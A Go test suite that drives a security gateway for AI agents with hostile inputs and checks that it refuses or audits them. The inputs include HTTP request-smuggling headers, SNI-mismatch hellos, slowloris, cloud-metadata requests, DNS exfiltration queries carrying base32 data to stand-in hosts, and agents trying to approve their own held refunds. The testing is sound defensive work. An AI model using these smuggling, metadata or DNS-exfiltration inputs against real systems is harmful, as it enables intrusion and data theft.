//go:build linux

package attack

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	mdns "github.com/miekg/dns"

	"github.com/sluice-gw/sluice/test/internal/casebook"
	"github.com/sluice-gw/sluice/test/internal/gwenv"
)

// TestGatewayStrictParsing is THREATS F1–F4 through the real socket: each
// malformed request of the proxy form is 400 before any DNS query or
// connection (pkg.test is allowed and resolves to a live upstream, so a
// request that got past parsing would be sent). Go's own server answers a
// few shapes first, in plain text; the gateway's refusals are JSON
// schema_violation with Proxy-Status http_request_error.
func TestGatewayStrictParsing(t *testing.T) {
	w := newWorld(t)
	const target = "POST http://pkg.test/upload HTTP/1.1\r\nHost: pkg.test\r\n"
	cases := []struct {
		id, name, req string
		ours          bool // refused by the gateway's checker (JSON), not Go's server
	}{
		{"F1", "Content-Length and Transfer-Encoding (smuggling)", target + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", true},
		{"F1", "conflicting Content-Length", target + "Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcde", true},
		{"F1", "duplicate identical Content-Length", target + "Content-Length: 4\r\nContent-Length: 4\r\n\r\nabcd", true},
		{"F1", "Transfer-Encoding xchunked", target + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", true},
		{"F1", "Transfer-Encoding gzip, chunked", target + "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n", true},
		{"F2", "bare LF after the chunk size (CVE-2025-22871)", target + "Transfer-Encoding: chunked\r\n\r\n4\nabcd\r\n0\r\n\r\n", true},
		{"F2", "lone CR inside a header value", target + "X-A: a\rb\r\nContent-Length: 0\r\n\r\n", true},
		{"F3", "obs-fold", target + "X-A: a\r\n b\r\nContent-Length: 0\r\n\r\n", true},
		{"F3", "NUL in a header value", target + "X-A: a\x00b\r\nContent-Length: 0\r\n\r\n", true},
		{"F3", "space before the colon", target + "X-A : b\r\nContent-Length: 0\r\n\r\n", true},
		{"F3", "0x80 in a header name", target + "X-\x80: b\r\nContent-Length: 0\r\n\r\n", true},
		{"F3", "0xff in a header name", target + "X-\xff: b\r\nContent-Length: 0\r\n\r\n", true},
		{"F4", "userinfo in the absolute form", "GET http://user@pkg.test/ HTTP/1.1\r\nHost: pkg.test\r\n\r\n", true},
		{"F4", "userinfo in CONNECT", "CONNECT user@pkg.test:443 HTTP/1.1\r\nHost: pkg.test:443\r\n\r\n", true},
		{"F4", "CONNECT port 0443 (leading zero)", "CONNECT pkg.test:0443 HTTP/1.1\r\nHost: pkg.test:0443\r\n\r\n", true},
		{"F4", "port 007", "GET http://pkg.test:007/ HTTP/1.1\r\nHost: pkg.test:007\r\n\r\n", true},
		{"F4", "port 91337", "CONNECT pkg.test:91337 HTTP/1.1\r\nHost: pkg.test:91337\r\n\r\n", true},
		{"F4", "port -1", "CONNECT pkg.test:-1 HTTP/1.1\r\nHost: pkg.test:-1\r\n\r\n", false},
		{"F4", "CONNECT without a port", "CONNECT pkg.test HTTP/1.1\r\nHost: pkg.test\r\n\r\n", true},
		{"F4", "two Host headers", "GET http://pkg.test/ HTTP/1.1\r\nHost: pkg.test\r\nHost: evil.test\r\n\r\n", false},
		{"F4", "[[pkg.test]] bracketed name", "GET http://[[pkg.test]]/ HTTP/1.1\r\nHost: pkg.test\r\n\r\n", false},
	}
	for _, tc := range cases {
		t.Run(tc.id+" "+tc.name, func(t *testing.T) {
			c := casebook.Expect(t, tc.id, tc.name+" (proxy form, raw bytes on the sandbox socket)",
				"400 (schema_violation, Proxy-Status http_request_error when the gateway's checker refuses), 0 DNS queries, 0 upstream connections")
			q, h := w.dnsQ.Load(), w.httpConn.Load()
			resp, body, _, _ := w.exchange(t, agentA, tc.req)
			dq, hc := w.dnsQ.Load()-q, w.httpConn.Load()-h
			c.Observef("%d %s, Proxy-Status %q, DNS queries %d, upstream connections %d", resp.StatusCode, errCode(body), resp.Header.Get("Proxy-Status"), dq, hc)
			if resp.StatusCode != http.StatusBadRequest {
				t.Errorf("got %d %q, want 400", resp.StatusCode, body)
			}
			if tc.ours && (errCode(body) != "schema_violation" || resp.Header.Get("Proxy-Status") != "sluice; error=http_request_error") {
				t.Errorf("code %q Proxy-Status %q, want schema_violation and http_request_error", errCode(body), resp.Header.Get("Proxy-Status"))
			}
			if dq != 0 || hc != 0 {
				t.Errorf("the request got past parsing: %d DNS queries, %d upstream connections", dq, hc)
			}
		})
	}
	t.Run("F1 control: the same request, well formed", func(t *testing.T) {
		c := casebook.Expect(t, "F1", "control: POST http://pkg.test/upload with one Content-Length",
			"200 from the upstream, 1 connection (the refusals above are the parser's)")
		h := w.httpConn.Load()
		resp, body, _, _ := w.exchange(t, agentA, target+"Content-Length: 4\r\nConnection: close\r\n\r\nabcd")
		c.Observef("%d %q, upstream connections %d", resp.StatusCode, body, w.httpConn.Load()-h)
		if resp.StatusCode != http.StatusOK || body != "hello from pkg.test /upload" || w.httpConn.Load()-h != 1 {
			t.Fatalf("control: %d %q", resp.StatusCode, body)
		}
	})
	// One canonical authority or 400: a request that is answered must have
	// reached pkg.test as pkg.test, and nothing else may be asked for.
	for _, tc := range []struct{ name, req string }{
		{"absolute form pkg.test with Host: evil.test", "GET http://pkg.test/x HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"},
		{"trailing dot pkg.test.", "GET http://pkg.test./x HTTP/1.1\r\nHost: pkg.test.\r\nConnection: close\r\n\r\n"},
		{"upper case PKG.TEST", "GET http://PKG.TEST/x HTTP/1.1\r\nHost: PKG.TEST\r\nConnection: close\r\n\r\n"},
		{"IDN pkg.t\u00ebst (raw UTF-8)", "GET http://pkg.t\xc3\xabst/x HTTP/1.1\r\nHost: pkg.t\xc3\xabst\r\nConnection: close\r\n\r\n"},
	} {
		t.Run("F4 "+tc.name, func(t *testing.T) {
			c := casebook.Expect(t, "F4", tc.name+" (proxy form, raw bytes)",
				"one canonical authority: answered by pkg.test seeing Host pkg.test, or refused (400/403) with no upstream connection")
			h := w.httpConn.Load()
			resp, body, _, _ := w.exchange(t, agentA, tc.req)
			hc := w.httpConn.Load() - h
			c.Observef("%d %s %q, upstream connections %d", resp.StatusCode, errCode(body), body, hc)
			switch resp.StatusCode {
			case http.StatusOK:
				if body != "hello from pkg.test /x" || hc != 1 {
					t.Errorf("answered %q with %d connections; want the upstream to see Host pkg.test", body, hc)
				}
			case http.StatusBadRequest, http.StatusForbidden:
				if hc != 0 {
					t.Errorf("refused, yet %d upstream connections", hc)
				}
			default:
				t.Errorf("got %d %q; want 200 canonical, 400 or 403", resp.StatusCode, body)
			}
		})
	}
}

// TestGatewayConnectSNI is THREATS F5 (and C5): after CONNECT pkg.test:443
// the ClientHello must name pkg.test; another name, none, or bytes that
// are not TLS close the tunnel before any dial, audited sni_mismatch. The
// same hello split over two writes does not slip through.
func TestGatewayConnectSNI(t *testing.T) {
	w := newWorld(t)
	const connect = "CONNECT pkg.test:443 HTTP/1.1\r\nHost: pkg.test:443\r\n\r\n"
	evil := clientHello(t, "evil.test")
	cases := []struct {
		name   string
		writes [][]byte
	}{
		{"SNI names another host", [][]byte{evil}},
		{"no SNI", [][]byte{clientHello(t, "")}},
		{"not TLS", [][]byte{[]byte("GET / HTTP/1.1\r\nHost: pkg.test\r\n\r\n")}},
		{"SNI names another host, hello split over two writes", [][]byte{evil[:7], evil[7:]}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c := casebook.Expect(t, "F5", "CONNECT pkg.test:443, then "+tc.name,
				"tunnel closed with no byte sent back, audit sni_mismatch, 0 TLS upstream connections")
			tl := w.tlsConn.Load()
			before := len(w.g.For(t).AuditEvent("sni_mismatch", "pkg.test")) // the previous case's record is in
			resp, _, conn, br := w.exchange(t, agentA, connect)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("CONNECT: %d", resp.StatusCode)
			}
			for i, b := range tc.writes {
				if i > 0 {
					time.Sleep(200 * time.Millisecond)
				}
				if _, err := conn.Write(b); err != nil {
					t.Fatalf("%v\n%s", err, w.g.For(t).Stderr())
				}
			}
			n, _ := br.Discard(1 << 20)
			audited := w.awaitAuditCount(t, "sni_mismatch", "pkg.test", before+1)
			c.Observef("bytes back %d, audit sni_mismatch %v, TLS upstream connections %d", n, audited, w.tlsConn.Load()-tl)
			if n != 0 || !audited || w.tlsConn.Load() != tl {
				t.Errorf("bytes back %d, audited %v (records before %d, now %d), upstream connections %d\n%s", n, audited, before, len(w.g.For(t).AuditEvent("sni_mismatch", "pkg.test")), w.tlsConn.Load()-tl, w.g.For(t).Stderr())
			}
		})
	}
	t.Run("control: a real TLS client through the tunnel", func(t *testing.T) {
		c := casebook.Expect(t, "F5", "control: https://pkg.test through CONNECT with the matching SNI",
			"200 from the TLS upstream, certificate verified with the upstream's CA")
		tl := w.tlsConn.Load()
		st, body, _ := w.fetch(t, w.proxyClient(agentA, w.upstreamCA), http.MethodGet, "https://pkg.test/files/x", "", nil)
		c.Observef("%d %q, TLS upstream connections %d", st, body, w.tlsConn.Load()-tl)
		if st != http.StatusOK || body != "hello from pkg.test /files/x" || w.tlsConn.Load()-tl != 1 {
			t.Fatalf("control: %d %q", st, body)
		}
	})
}

// TestGatewayTunnelLimits is THREATS B6: one more tunnel than
// egress.max_tunnels_per_caller (2) is 429 rate_limited; closing them
// frees the slots; a tunnel that never sends its ClientHello (8s) and a request
// whose header never ends are closed by the gateway's timeouts.
func TestGatewayTunnelLimits(t *testing.T) {
	w := newWorld(t)
	const connect = "CONNECT pkg.test:443 HTTP/1.1\r\nHost: pkg.test:443\r\n\r\n"
	t.Run("too many tunnels", func(t *testing.T) {
		c := casebook.Expect(t, "B6", "agent-c opens 3 CONNECT tunnels with max_tunnels_per_caller 2",
			"first 2 200, third 429 rate_limited with no upstream connection; after closing them a new tunnel is 200")
		var obs []string
		for i := range 2 {
			resp, _, conn, _ := w.exchange(t, agentC, connect)
			obs = append(obs, fmt.Sprint(resp.StatusCode))
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("tunnel %d: %d", i, resp.StatusCode)
			}
			defer conn.Close() // held open: each waits for its ClientHello
		}
		tl := w.tlsConn.Load()
		resp, body, _, _ := w.exchange(t, agentC, connect)
		obs = append(obs, fmt.Sprintf("%d %s", resp.StatusCode, errCode(body)))
		c.Observef("tunnels: %s; upstream connections %d", strings.Join(obs, ", "), w.tlsConn.Load()-tl)
		if resp.StatusCode != http.StatusTooManyRequests || errCode(body) != "rate_limited" {
			t.Fatalf("third tunnel: %d %s, want 429 rate_limited", resp.StatusCode, body)
		}
		if w.tlsConn.Load() != tl {
			t.Errorf("the refused tunnel reached the upstream")
		}
	})
	t.Run("slots return after the tunnels close", func(t *testing.T) {
		c := casebook.Expect(t, "B6", "control: agent-c's tunnels closed, a new CONNECT",
			"200 within the handshake timeout plus a margin (slots are released)")
		var st int
		deadline := time.Now().Add(30 * time.Second)
		for {
			resp, _, conn, _ := w.exchange(t, agentC, connect)
			st = resp.StatusCode
			conn.Close()
			if st == http.StatusOK || time.Now().After(deadline) {
				break
			}
			time.Sleep(200 * time.Millisecond)
		}
		c.Observef("%d", st)
		if st != http.StatusOK {
			t.Fatalf("new tunnel after closing: %d, want 200", st)
		}
	})
	t.Run("tunnel that never sends a ClientHello", func(t *testing.T) {
		c := casebook.Expect(t, "B6", "CONNECT pkg.test:443 then silence (handshake_timeout 8s)",
			"the gateway closes the tunnel (within 30s), nothing dialled")
		tl := w.tlsConn.Load()
		resp, _, conn, br := w.exchange(t, agentC, connect)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("CONNECT: %d", resp.StatusCode)
		}
		_ = conn.SetReadDeadline(time.Now().Add(30 * time.Second))
		n, err := br.Discard(1)
		closed := err != nil && !isTimeout(err)
		c.Observef("closed by the gateway %v (read %d bytes, %v), upstream connections %d", closed, n, err, w.tlsConn.Load()-tl)
		if !closed || w.tlsConn.Load() != tl {
			t.Errorf("silent tunnel: closed %v (%v), upstream connections %d", closed, err, w.tlsConn.Load()-tl)
		}
	})
	t.Run("slowloris: a header that never ends", func(t *testing.T) {
		c := casebook.Expect(t, "B6", "slowloris: GET /v1/tools with a header that never ends",
			"the gateway closes the connection (read header timeout), within 60s")
		out, closed := w.g.For(t).Raw(agentA, []byte("GET /v1/tools HTTP/1.1\r\nHost: sluice\r\nX-Slow: a"), 60*time.Second)
		c.Observef("closed %v, answer %q", closed, firstLine(out))
		if !closed {
			t.Errorf("the connection was still open after 60s")
		}
	})
}

func readAll(resp *http.Response) []byte {
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return b
}

func isTimeout(err error) bool {
	ne, ok := err.(interface{ Timeout() bool })
	return ok && ne.Timeout()
}

// TestGatewayRedirects is THREATS C6: a 302 to the metadata address is
// relayed, never followed, and the credential is sent once.
func TestGatewayRedirects(t *testing.T) {
	w := newWorld(t)
	t.Run("connector upstream redirects", func(t *testing.T) {
		c := casebook.Expect(t, "C6", "connector upstream answers 302 Location http://169.254.169.254/latest/meta-data/",
			"the 302 relayed as the tool result, exactly 1 upstream request (not followed, credential sent once)")
		w.e.Up.SetMode(gwenv.ModeRedirect)
		defer w.e.Up.SetMode(gwenv.ModeOK)
		n := len(w.e.Up.Requests())
		r := w.g.For(t).Call(agentA, "tickets.list_tickets", `{}`)
		var res struct {
			Status  int                 `json:"status"`
			Headers map[string][]string `json:"headers"`
		}
		_ = json.Unmarshal(r.Body, &res)
		got := len(w.e.Up.Requests()) - n
		c.Observef("%d, result status %d Location %v, upstream requests %d", r.Status, res.Status, res.Headers["Location"], got)
		if r.Status != http.StatusOK || res.Status != http.StatusFound || got != 1 {
			t.Errorf("got %d %s, %d upstream requests", r.Status, r.Body, got)
		}
	})
	t.Run("egress upstream redirects", func(t *testing.T) {
		c := casebook.Expect(t, "C6", "GET http://pkg.test/redirect through the proxy; the upstream answers 302 to the metadata address",
			"302 relayed to the sandbox, 1 upstream connection, the metadata address never asked for")
		h, q := w.httpConn.Load(), w.dnsQ.Load()
		st, _, hdr := w.fetch(t, w.proxyClient(agentA, nil), http.MethodGet, "http://pkg.test/redirect", "", nil)
		c.Observef("%d Location %q, upstream connections %d, DNS queries %d", st, hdr.Get("Location"), w.httpConn.Load()-h, w.dnsQ.Load()-q)
		if st != http.StatusFound || w.httpConn.Load()-h != 1 {
			t.Errorf("got %d, %d upstream connections", st, w.httpConn.Load()-h)
		}
	})
}

// TestGatewayMetadataAllowListed is THREATS C1's "even if allow-listed":
// names on agent-a's egress list that resolve to the metadata address are
// refused 403 (a refusal, not a failed dial, which would be 502).
func TestGatewayMetadataAllowListed(t *testing.T) {
	w := newWorld(t)
	for _, tc := range []struct{ name, req string }{
		{"CONNECT meta.test:443", "CONNECT meta.test:443 HTTP/1.1\r\nHost: meta.test:443\r\n\r\n"},
		{"GET http://metadata.google.internal/computeMetadata/v1/", "GET http://metadata.google.internal/computeMetadata/v1/ HTTP/1.1\r\nHost: metadata.google.internal\r\nConnection: close\r\n\r\n"},
		{"CONNECT meta6.test:443 (AAAA fd00:ec2::254)", "CONNECT meta6.test:443 HTTP/1.1\r\nHost: meta6.test:443\r\n\r\n"},
		{"GET http://meta6.test/latest/meta-data/ (AAAA fd00:ec2::254)", "GET http://meta6.test/latest/meta-data/ HTTP/1.1\r\nHost: meta6.test\r\nConnection: close\r\n\r\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := casebook.Expect(t, "C1", tc.name+" (the name is on the agent's egress list and resolves to a metadata address)",
				"403 egress_denied with Proxy-Status destination_ip_prohibited (refused after resolution), not 502: nothing dialled")
			resp, body, _, _ := w.exchange(t, agentA, tc.req)
			c.Observef("%d %s, Proxy-Status %q", resp.StatusCode, errCode(body), resp.Header.Get("Proxy-Status"))
			if resp.StatusCode != http.StatusForbidden || errCode(body) != "egress_denied" || !strings.Contains(resp.Header.Get("Proxy-Status"), "destination_ip_prohibited") {
				t.Errorf("got %d %q (%s), want 403 egress_denied, destination_ip_prohibited", resp.StatusCode, body, resp.Header.Get("Proxy-Status"))
			}
		})
	}
	t.Run("control: CONNECT pkg.test:443", func(t *testing.T) {
		c := casebook.Expect(t, "C1", "control: CONNECT pkg.test:443 (allow-listed, public address)", "200")
		resp, _, conn, _ := w.exchange(t, agentA, "CONNECT pkg.test:443 HTTP/1.1\r\nHost: pkg.test:443\r\n\r\n")
		conn.Close()
		c.Observef("%d", resp.StatusCode)
		if resp.StatusCode != http.StatusOK {
			t.Errorf("control: %d", resp.StatusCode)
		}
	})
}

// TestGatewayDNS is THREATS C7 and C9 through POST /v1/dns on the socket:
// the rcode of each question and the number of queries the real DNS
// server in the namespace received.
func TestGatewayDNS(t *testing.T) {
	w := newWorld(t)
	q := func(name string, qtype uint16) []byte {
		m := new(mdns.Msg)
		m.SetQuestion(name, qtype)
		b, err := m.Pack()
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	two := new(mdns.Msg)
	two.SetQuestion("pkg.test.", mdns.TypeA)
	two.Question = append(two.Question, two.Question[0])
	twoRaw, _ := two.Pack()
	long := strings.Repeat("a", 63)
	label64 := make([]byte, 0, 80) // a wire-format name whose first label is 64 bytes
	label64 = append(label64, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 64)
	label64 = append(label64, []byte(strings.Repeat("b", 64))...)
	label64 = append(label64, 4, 't', 'e', 's', 't', 0, 0, 1, 0, 1)
	cases := []struct {
		id, name string
		raw      []byte
		rcode    int
		queries  int64
		answers  int
	}{
		{"C7", "control: allowed name, A", q("pkg.test.", mdns.TypeA), mdns.RcodeSuccess, 1, 1},
		{"C7", "unlisted name", q("evil.example.", mdns.TypeA), mdns.RcodeRefused, 0, 0},
		{"C7", "allowed name answering loopback", q("rebind.test.", mdns.TypeA), mdns.RcodeRefused, 1, 0},
		{"C7", "allowed name answering the metadata address", q("meta.test.", mdns.TypeA), mdns.RcodeRefused, 1, 0},
		{"C7", "upstream SERVFAIL", q("servfail.test.", mdns.TypeA), mdns.RcodeServerFailure, 1, 0},
		{"C7", "TXT", q("pkg.test.", mdns.TypeTXT), mdns.RcodeNotImplemented, 0, 0},
		{"C7", "NULL", q("pkg.test.", mdns.TypeNULL), mdns.RcodeNotImplemented, 0, 0},
		{"C7", "ANY", q("pkg.test.", mdns.TypeANY), mdns.RcodeNotImplemented, 0, 0},
		{"C7", "two questions", twoRaw, mdns.RcodeFormatError, 0, 0},
		{"C7", "garbage bytes", []byte{0x12, 0x34, 0xff}, mdns.RcodeFormatError, 0, 0},
		{"C9", "name over 253 bytes", q(strings.Repeat(long+".", 4)[:254]+".", mdns.TypeA), mdns.RcodeFormatError, 0, 0},
		{"C9", "label of 64 bytes (hand-made wire format)", label64, mdns.RcodeFormatError, 0, 0},
		{"C9", "base32-shaped subdomain of an unlisted name", q("mzxw6ytboi2dcmrtgq.evil.example.", mdns.TypeAAAA), mdns.RcodeRefused, 0, 0},
	}
	cl := w.g.For(t).Client(agentA)
	for _, tc := range cases {
		t.Run(tc.id+" "+tc.name, func(t *testing.T) {
			c := casebook.Expect(t, tc.id, "DNS question over the sandbox socket: "+tc.name,
				fmt.Sprintf("rcode %s, %d upstream DNS queries, %d answers", mdns.RcodeToString[tc.rcode], tc.queries, tc.answers))
			before := w.dnsQ.Load()
			resp, err := cl.Post("http://sluice/v1/dns", "application/dns-message", strings.NewReader(string(tc.raw)))
			if err != nil {
				t.Fatal(err)
			}
			b := readAll(resp)
			m := new(mdns.Msg)
			if resp.StatusCode != http.StatusOK || m.Unpack(b) != nil {
				t.Fatalf("POST /v1/dns: %d %q", resp.StatusCode, b)
			}
			n := w.dnsQ.Load() - before
			c.Observef("rcode %s, %d upstream DNS queries, %d answers", mdns.RcodeToString[m.Rcode], n, len(m.Answer))
			if m.Rcode != tc.rcode || n != tc.queries || len(m.Answer) != tc.answers {
				t.Errorf("rcode %s, %d queries, %d answers", mdns.RcodeToString[m.Rcode], n, len(m.Answer))
			}
		})
	}
	t.Run("C7 refusals are audited", func(t *testing.T) {
		c := casebook.Expect(t, "C7", "audit of the refused DNS questions", "dns_refused for evil.example, dns_internal_answer for rebind.test")
		a, b := w.awaitAudit(t, "dns_refused", "evil.example"), w.awaitAudit(t, "dns_internal_answer", "rebind.test")
		c.Observef("dns_refused %v, dns_internal_answer %v", a, b)
		if !a || !b {
			t.Error("refusals not audited")
		}
	})
	t.Run("C9 many unique subdomains raise one alert", func(t *testing.T) {
		c := casebook.Expect(t, "C9", "7 unique subdomains of exfil.example in a row", "one dns_exfiltration_signal audit record naming exfil.example")
		for i := range 7 {
			resp, err := cl.Post("http://sluice/v1/dns", "application/dns-message", strings.NewReader(string(q(fmt.Sprintf("x%d.exfil.example.", i), mdns.TypeA))))
			if err != nil {
				t.Fatal(err)
			}
			readAll(resp)
		}
		w.awaitAudit(t, "dns_exfiltration_signal", "exfil.example")
		n := len(w.g.For(t).AuditEvent("dns_exfiltration_signal", "exfil.example"))
		c.Observef("%d dns_exfiltration_signal records", n)
		if n != 1 {
			t.Errorf("%d exfiltration signals, want 1", n)
		}
	})
	t.Run("C9 a high-entropy label raises an alert", func(t *testing.T) {
		// A secret in base32, one 54-character label: what an exfiltrating
		// resolver lookup carries. The control, a long dictionary label
		// under another domain, raises nothing.
		c := casebook.Expect(t, "C9", "a 54-character base32 label under leak.example, and a control: a 24-character word label under words.example",
			"one dns_high_entropy audit record for leak.example naming the label's entropy; none for words.example")
		ask := func(name string) {
			resp, err := cl.Post("http://sluice/v1/dns", "application/dns-message", strings.NewReader(string(q(name, mdns.TypeA))))
			if err != nil {
				t.Fatal(err)
			}
			readAll(resp)
		}
		ask("kvwzsdklmn3eq2tfojrgk5dpmvzhg6ljnbswy3dpeblw64tmmqqgq5.leak.example.")
		ask("mississippimississippiab.words.example.")
		w.awaitAudit(t, "dns_high_entropy", "leak.example")
		var rec map[string]any
		for _, r := range w.g.For(t).AuditEvent("dns_high_entropy", "leak.example") {
			rec = fieldsOf(r)
		}
		words := len(w.g.For(t).AuditEvent("dns_high_entropy", "words.example"))
		c.Observef("leak.example: entropy %v over %v bytes; words.example records %d", rec["label_entropy"], rec["label_length"], words)
		if rec == nil || rec["base_domain"] != "leak.example" {
			t.Errorf("no dns_high_entropy record for leak.example: %v", rec)
		}
		if words != 0 {
			t.Errorf("%d dns_high_entropy records for a low-entropy label", words)
		}
	})
}

// TestGatewayHolds is THREATS B7, E1, E2, E4 and E5 against the real
// binary: the pending-approval cap, self-approval, approving from the
// sandbox, a tampered re-send and a policy that changed before execution.
func TestGatewayHolds(t *testing.T) {
	w := newWorld(t)
	g := w.g
	refunds := func() int {
		n := 0
		for _, r := range w.e.Up.Requests() {
			if r.Path == "/refunds" {
				n++
			}
		}
		return n
	}
	t.Run("B7 pending approvals cap", func(t *testing.T) {
		g := g.For(t)
		c := casebook.Expect(t, "B7", "agent-d floods Ask calls with max_pending_holds 2",
			"first 2 202 pending, third 429 rate_limited, nothing upstream")
		var obs []string
		for i := range 3 {
			r := g.Call(agentD, "tickets.create_refund", fmt.Sprintf(`{"body":{"amount":%d}}`, 100+i))
			obs = append(obs, fmt.Sprintf("%d %s%s", r.Status, r.Code, r.HoldState))
		}
		c.Observef("%s; refunds upstream %d", strings.Join(obs, ", "), refunds())
		if obs[0] != "202 pending" || obs[1] != "202 pending" || obs[2] != "429 rate_limited" || refunds() != 0 {
			t.Errorf("got %v, %d refunds upstream", obs, refunds())
		}
	})
	t.Run("E1 self-approval", func(t *testing.T) {
		g := g.For(t)
		c := casebook.Expect(t, "E1", "alice (the requester, an approver in finance) views and approves her own held call",
			"view 200; approve and deny 403 self_approval_forbidden; control: carol approves, executed once")
		r := g.Call(agentA, "tickets.create_refund", `{"body":{"amount":1}}`)
		if r.Status != http.StatusAccepted {
			t.Fatalf("ask: %d %s", r.Status, r.Body)
		}
		view, _, _ := g.AdminDo(http.MethodGet, "/api/v1/holds/"+r.HoldID, gwenv.AliceToken, "")
		a, ac, _ := g.AdminDo(http.MethodPost, "/api/v1/holds/"+r.HoldID+"/approve", gwenv.AliceToken, `{"reason":"mine"}`)
		d, dc, _ := g.AdminDo(http.MethodPost, "/api/v1/holds/"+r.HoldID+"/deny", gwenv.AliceToken, `{"reason":"mine"}`)
		before := refunds()
		ok, _, body := g.AdminDo(http.MethodPost, "/api/v1/holds/"+r.HoldID+"/approve", gwenv.CarolToken, `{"reason":"fine"}`)
		hold, _ := body["hold"].(map[string]any)
		c.Observef("view %d; alice approve %d %s, deny %d %s; carol approve %d %v, refunds upstream +%d", view, a, ac, d, dc, ok, hold["status"], refunds()-before)
		if view != http.StatusOK || a != http.StatusForbidden || ac != "self_approval_forbidden" || d != http.StatusForbidden || dc != "self_approval_forbidden" {
			t.Errorf("view %d, approve %d %s, deny %d %s", view, a, ac, d, dc)
		}
		if ok != http.StatusOK || hold["status"] != "executed" || refunds()-before != 1 {
			t.Errorf("control: carol approve %d %v", ok, body)
		}
	})
	t.Run("E2 approving from the sandbox", func(t *testing.T) {
		g := g.For(t)
		c := casebook.Expect(t, "E2", "the agent posts approve for its own hold over the sandbox socket (admin path, with an approver's bearer token, and under /v1)",
			"404 not_found each time; the hold stays pending; nothing upstream")
		r := g.Call(agentA, "tickets.create_refund", `{"body":{"amount":2}}`)
		if r.Status != http.StatusAccepted {
			t.Fatalf("ask: %d %s", r.Status, r.Body)
		}
		bearer := http.Header{"Authorization": {"Bearer " + gwenv.CarolToken}}
		var obs []string
		for _, p := range []string{"/api/v1/holds/" + r.HoldID + "/approve", "/v1/holds/" + r.HoldID + "/approve"} {
			x := g.Do(agentA, http.MethodPost, p, `{"reason":"self"}`, bearer)
			obs = append(obs, fmt.Sprintf("%s %d %s", p[:8], x.Status, x.Code))
			if x.Status != http.StatusNotFound {
				t.Errorf("POST %s over the socket: %d %s, want 404", p, x.Status, x.Body)
			}
		}
		p := g.Do(agentA, http.MethodGet, "/v1/holds/"+r.HoldID, "", nil)
		c.Observef("%s; poll after %d %s", strings.Join(obs, "; "), p.Status, p.HoldState)
		if p.Status != http.StatusAccepted || p.HoldState != "pending" {
			t.Errorf("hold after the attempts: %d %s", p.Status, p.Body)
		}
		// Leave nothing pending for agent-a.
		g.AdminDo(http.MethodPost, "/api/v1/holds/"+r.HoldID+"/deny", gwenv.CarolToken, `{"reason":"test over"}`)
	})
	t.Run("E4 args changed after approval", func(t *testing.T) {
		g := g.For(t)
		c := casebook.Expect(t, "E4", "hold approved for amount 7, re-sent with Sluice-Hold and amount 7000",
			"409 args_mismatch and nothing upstream; control: the identical re-send gets the stored result, still 1 upstream request")
		r := g.Call(agentA, "tickets.create_refund", `{"body":{"amount":7}}`)
		if r.Status != http.StatusAccepted {
			t.Fatalf("ask: %d %s", r.Status, r.Body)
		}
		if st, _, body := g.AdminDo(http.MethodPost, "/api/v1/holds/"+r.HoldID+"/approve", gwenv.CarolToken, `{"reason":"ok"}`); st != http.StatusOK {
			t.Fatalf("approve: %d %v", st, body)
		}
		before := refunds()
		hdr := http.Header{"Sluice-Hold": {r.HoldID}}
		bad := g.Do(agentA, http.MethodPost, "/v1/tools/tickets.create_refund", `{"body":{"amount":7000}}`, hdr)
		same := g.Do(agentA, http.MethodPost, "/v1/tools/tickets.create_refund", `{"body":{"amount":7}}`, hdr)
		c.Observef("tampered %d %s; identical %d; refunds upstream +%d", bad.Status, bad.Code, same.Status, refunds()-before)
		if bad.Status != http.StatusConflict || bad.Code != "args_mismatch" {
			t.Errorf("tampered re-send: %d %s", bad.Status, bad.Body)
		}
		if same.Status != http.StatusOK || !strings.Contains(string(same.Body), "refund") {
			t.Errorf("identical re-send: %d %s", same.Status, same.Body)
		}
		if refunds() != before {
			t.Errorf("a re-send reached the upstream")
		}
	})
	t.Run("E5 policy changed to block before approval", func(t *testing.T) {
		g := g.For(t)
		c := casebook.Expect(t, "E5", "a Rego module blocking refunds is loaded (SIGHUP) between the hold and its approval",
			"approval re-evaluates: hold failed, poll 403 policy_block, nothing upstream")
		r := g.Call(agentA, "tickets.create_refund", `{"body":{"amount":10}}`)
		if r.Status != http.StatusAccepted {
			t.Fatalf("ask: %d %s", r.Status, r.Body)
		}
		mod := `package sluice.policies.team

decisions contains {"action": "block", "rule": "team.freeze", "reason": "refunds frozen"} if {
	input.tool == "tickets.create_refund"
}
`
		if err := os.WriteFile(filepath.Join(w.rego, "team.rego"), []byte(mod), 0o644); err != nil {
			t.Fatal(err)
		}
		g.Signal(syscall.SIGHUP)
		// The new module is in force once a fresh refund is blocked.
		deadline := time.Now().Add(30 * time.Second)
		for {
			// agent-d is at its pending cap (B7), so nothing is held by the probe.
			y := g.Call(agentD, "tickets.create_refund", `{"body":{"amount":1}}`)
			if y.Code == "policy_block" {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("the blocking module was not loaded within 30s: %d %s", y.Status, y.Body)
			}
			time.Sleep(200 * time.Millisecond)
		}
		before := refunds()
		st, _, body := g.AdminDo(http.MethodPost, "/api/v1/holds/"+r.HoldID+"/approve", gwenv.CarolToken, `{"reason":"ok"}`)
		hold, _ := body["hold"].(map[string]any)
		p := g.Do(agentA, http.MethodGet, "/v1/holds/"+r.HoldID, "", nil)
		c.Observef("approve %d, hold %v; poll %d %s; refunds upstream +%d", st, hold["status"], p.Status, p.Code, refunds()-before)
		if st != http.StatusOK || hold["status"] != "failed" || p.Status != http.StatusForbidden || p.Code != "policy_block" || refunds() != before {
			t.Errorf("approve %d %v, poll %d %s", st, body, p.Status, p.Body)
		}
	})
}

// TestGatewayHoldExpiry is THREATS E6: a hold nobody decided within its
// hold_ttl (5s) is 403 approval_expired for the agent and 410 for the
